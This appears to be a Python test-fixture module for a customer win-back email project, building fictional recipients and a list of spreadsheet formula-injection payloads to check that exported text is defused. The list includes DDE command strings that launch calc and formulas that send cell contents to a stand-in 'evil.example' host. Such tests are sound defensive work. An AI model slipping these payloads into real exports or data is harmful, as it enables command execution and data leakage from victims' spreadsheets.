"""An offer list of made-up people, and payloads that a spreadsheet would run."""

from datetime import date
from decimal import Decimal

import polars as pl

from winback.schema import ASSIGNED, RECIPIENTS

FREE_TEXT = (
    "first_name",
    "last_name",
    "country",
    "favourite_product",
    "reward",
    "code",
    "subject",
    "preview_text",
    "text",
    "button",
    "link",
)
"""The columns of RECIPIENTS whose words come from people, shops or their files."""

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
PAYLOADS = (
    *(f"{sign}1+1" for sign in SIGNS),
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"open")',
    '=IMPORTXML("https://evil.example","//a")',
    'x";=1',
    '"=1"',
    "x;;-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "  =1",
    "\u00a0＝1",
    "\u200b=1",
    "\ufeff=1",
    "\tplain",
    "\rplain",
    "\nplain",
    *(f"x{delimiter}{sign}1" for delimiter in ',;\t|\n\r"' for sign in SIGNS),
    "x, =1",
    "x;\t=1",
    "x,;=1",
    "x,=,=,=1",
    'x;"=1',
    'x\n"=1"',
    "x\n\n-1",
    "x;\tplain",
    "x;",
    'x;"',
)


def recipients(*rows: dict[str, object]) -> pl.DataFrame:
    """RECIPIENTS numbered from 1, each as given and else an ordinary one."""
    ordinary: dict[str, object] = {
        "phone": "+4915112345678",
        "first_name": "Ada",
        "last_name": "Byron",
        "country": "GB",
        "language": "en",
        "stage": "lapsed",
        "value_tier": "high",
        "last_order_on": date(2025, 12, 31),
        "silent_days": 181,
        "orders": 3,
        "net": Decimal("120.5"),
        "favourite_product": "Espresso",
        "reward_kind": "percentage",
        "reward_amount": Decimal(15),
        "reward": "15% off",
        "code": "AB12CD34EF",
        "expires_on": date(2026, 8, 31),
        "subject": "Hello Ada",
        "preview_text": "A thank-you",
        "text": "Hello Ada,\n\nfor you: 15% off.\n\n{{unsubscribe}}",
        "button": "Have a look",
        "link": "https://shop.example.com/?utm_source=winback",
    }
    numbered = [{"customer": number, "email": f"p{number}@example.com", **ordinary, **row} for number, row in enumerate(rows, start=1)]
    return RECIPIENTS.check(pl.DataFrame(numbered, schema=dict(RECIPIENTS.columns)))


def assigned(*rows: dict[str, object]) -> pl.DataFrame:
    """ASSIGNED numbered from 1 as ``recipients`` are, each as given and else an ordinary one who agreed and gets the offer."""
    ordinary: dict[str, object] = {
        "email_consent": "yes",
        "arm": "a",
        "stratum": 0,
        "stage": "lapsed",
        "value_tier": "high",
        "silent_days": 181,
        "net": Decimal("120.5"),
        "reward_kind": "percentage",
        "reward_amount": Decimal(15),
        "code": None,
        "chance": 0.1,
        "expected_order": Decimal(50),
        "reward_cost": Decimal(8),
        "contact_cost": Decimal("0.01"),
        "later_margin": Decimal(10),
        "break_even_lift": None,
        "expected_extra_profit": Decimal(1),
    }
    numbered = [{"customer": number, "email": f"p{number}@example.com", **ordinary, **row} for number, row in enumerate(rows, start=1)]
    return ASSIGNED.check(pl.DataFrame(numbered, schema=dict(ASSIGNED.columns)))
